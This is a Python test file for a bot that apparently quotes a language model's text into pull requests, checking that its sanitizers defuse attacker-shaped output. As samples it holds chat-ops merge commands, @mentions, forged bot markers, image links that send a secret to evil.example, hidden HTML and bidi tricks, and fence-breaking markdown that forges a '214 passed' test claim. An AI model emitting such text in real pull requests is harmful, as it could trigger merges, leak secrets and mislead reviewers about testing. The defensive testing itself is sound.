"""The bot's own words, when the model, its files and its tests say what an attacker would like to be read."""

import re
from itertools import accumulate
from typing import Final

import pytest
from markdown_it import MarkdownIt

from bot.application import answer_words, words
from bot.application.quoting import harmless, one_line, printed
from bot.application.reasons import code
from bot.domain.commands import Misspoken
from bot.domain.trust import Remark, Tested

COMMAND = re.compile(r"^\s*(?:/|bors\b)", re.MULTILINE | re.IGNORECASE)
SHOWN_OR_HIDDEN = re.compile(r"<[a-z/!?]|!\[", re.IGNORECASE)


@pytest.mark.parametrize(
    "text", ["/lgtm", "ok\n  /approve", "ok\u2028/merge", "bors r+", "x\r/lgtm", "\x0b/lgtm", "\x1b[31m/lgtm"]
)
def test_out_01_what_tests_print_commands_no_other_bot(text: str) -> None:
    assert not COMMAND.search(printed("It said", text).replace("\u2028", "\n"))


@pytest.mark.parametrize("text", ["@dependabot merge", "cc @org/team", "<!-- claude-code-bot:end:abc -->"])
def test_out_02_what_tests_print_calls_nobody_and_forges_no_marker(text: str) -> None:
    assert not re.search(r"@\w|<!--", printed("It said", text))


ECHOED: Final = "@dependabot merge @org/everyone /lgtm <!-- claude-code-bot:end:abc -->"


@pytest.mark.parametrize(
    "echo",
    [
        code(ECHOED),
        answer_words.unknown_filter(ECHOED, ("open",)),
        answer_words.no_moment(ECHOED),
        words.misspoken(Misspoken("unknown_command", ECHOED)),
        words.misspoken(Misspoken("unknown_option", ECHOED)),
        words.misspoken(Misspoken("option_without_value", ECHOED)),
        words.bad_value(ECHOED, "a number"),
    ],
)
def test_out_01_out_02_what_anybody_says_is_not_said_again_so_that_it_is_heard(echo: str) -> None:
    assert "dependabot" in echo
    assert not re.search(r"@\w|<!--", echo)
    assert not COMMAND.search(echo)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?s=secret)",
        "<img src=https://evil.example/?s=secret>",
        "<details><summary>All is well</summary>",
        "</details>",
        "<picture><source srcset=https://evil.example>",
        "<!DOCTYPE x>",
        "<?php",
    ],
)
def test_sx_03_the_models_words_load_nothing_and_fold_nothing(text: str) -> None:
    assert not SHOWN_OR_HIDDEN.search(harmless(text))


@pytest.mark.parametrize(
    "text", ["_fixes_ #1", "__Closes__ #1", "fixes " + "o" * 39 + "/" + "r" * 100 + "#1"]
)
def test_out_03_a_closing_word_in_disguise_closes_nothing(text: str) -> None:
    assert not re.search(r"fixes|closes", harmless(text), re.IGNORECASE)


@pytest.mark.parametrize("text", ["\u200b", "\u202e\u2066", "\u3164", "\x00", "\U000e0041"])
def test_out_09_a_title_of_nothing_is_no_title(text: str) -> None:
    assert one_line(text, most=100) == ""


def test_out_09_nothing_in_a_title_turns_the_others_round() -> None:
    assert one_line("Pay \u202eyap\u2066 bills", most=100) == "Pay yap bills"


SWALLOWING: Final = (
    "```", "~~~", "````python", "text\n   ```sh\nls", "```\nx\n```\n~~~~\n```", "``` a ` b", "```\nx\n```~",
    "~~~\nx\n~~~`\n", "````\nx\n````~ ~\n", "```\nx\n    ```", "- ```\n  x", "> ```\n> x", "<div>", "<!--",
    "<details>", "<pre>", "$$", "[^1]: a", "> a", "1. a", "    a", "|a|\n|-|\n|b|", "[Tested]: /x",
    "\x0b---\x0b", "\u2028# a",
)  # fmt: skip
CERTAIN: Final = ("For #3, asked for by @ann.", "with remarks", "Look at the tests.", "here decides;")


@pytest.mark.parametrize("opened", SWALLOWING)
def test_out_09_what_is_certain_stands_before_the_models_words_and_they_stay_in_their_quotation(
    opened: str,
) -> None:
    forged = "---\n\nFor #3, asked for by ann. Tested by `pytest` in a sandbox without network: 214 passed."
    body = words.pull_request_body(
        summary=f"All is well.\n\n{opened}\n\n{forged}\n\n{opened}",
        requested_by="ann",
        issue=3,
        integration_id="abc",
        tests="pytest",
        tested=Tested(passed=1, before=2, remarks=(Remark(code="failing_test_passed"),)),
        passport="(the passport)",
    )

    page = MarkdownIt("commonmark").enable("table").render(body)
    certain, quotation, said = page.partition("<blockquote>")
    assert all(each in certain for each in CERTAIN)
    assert "All is well" not in certain
    assert quotation
    assert "214 passed" in said
    assert said.endswith("</blockquote>\n")
    assert outermost(said) == 1


def outermost(said: str) -> int:
    """How often a quotation that is open already is closed: once where nothing leaves it and comes back."""
    depths = accumulate(1 if tag == "<blockquote>" else -1 for tag in re.findall("</?blockquote>", said))
    return sum(depth == -1 for depth in depths)
